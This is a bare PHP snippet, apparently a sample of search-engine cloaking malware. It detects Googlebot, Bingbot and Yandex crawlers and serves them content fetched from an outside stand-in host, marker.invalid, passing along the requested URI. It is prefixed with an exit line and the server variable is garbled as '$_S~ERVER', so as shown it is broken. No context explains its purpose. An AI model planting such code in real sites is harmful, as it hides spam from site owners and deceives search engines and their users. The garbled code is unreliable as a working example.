<?php exit; ?>
<?php
if (preg_match('/googlebot|bingbot|yandex/i', $_S~ERVER['HTTP_USER_AGENT'])) { echo file_get_contents('http://marker.invalid/page?u=' . urlencode($_S~ERVER['REQUEST_URI'])); exit; }
